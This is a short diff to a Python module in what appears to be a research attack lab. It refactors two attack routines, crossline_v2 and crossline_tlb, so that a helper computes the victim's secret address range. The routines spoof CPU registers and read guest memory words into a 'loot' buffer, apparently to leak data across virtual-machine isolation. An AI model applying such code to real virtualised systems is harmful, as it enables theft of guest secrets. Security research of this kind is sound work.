@@ -6,7 +6,7 @@ import struct
 from collections.abc import Mapping
 from typing import Final
 
-from cbit.attacks.experiments.correspondent import with_letters
+from cbit.attacks.experiments.correspondent import places, with_letters
 from cbit.attacks.experiments.registers import FORGED, LOAD, LOADS_AT, NOWHERE, STORE
 from cbit.attacks.lab.attack import attack
 from cbit.attacks.lab.guest import C_BIT, DB, NPF, Program, Victim
@@ -170,7 +170,7 @@ def crossline_v2(hands: Hands, facts: Facts, log: Log) -> bytes:
         cpu.runner.until(DB)
         return struct.pack("<Q", cpu.registers["rax"])
 
-    words = range(facts.number("secrets_at"), facts.number("secrets_at") + facts.number("secrets_size"), 8)
+    words = places(facts, 8)
     loot = b"".join(map(loaded, words))
     log.step(f"{len(words)} loads", loot)
     cpu.registers["rip"], cpu.registers["rdi"], cpu.registers["rcx"] = store, RESULT, 2
@@ -211,8 +211,8 @@ def crossline_tlb(hands: Hands, facts: Facts, log: Log) -> bytes:
     """
     load = IMAGE + facts.data("image").index(LOAD)
     cpu = hands.spoofed(rip=load, cr3=0, map_memory=False, flush=False)
-    loot, start = b"", facts.number("secrets_at")
-    for at in range(start, start + facts.number("secrets_size"), 16):
+    loot = b""
+    for at in places(facts, 16):
         cpu.registers["rip"], cpu.registers["rsi"], cpu.registers["rsp"] = load, at - LOADS_AT, NOWHERE
         cpu.runner.until(NPF)
         loot += struct.pack("<2Q", cpu.registers["rax"], cpu.registers["rcx"])
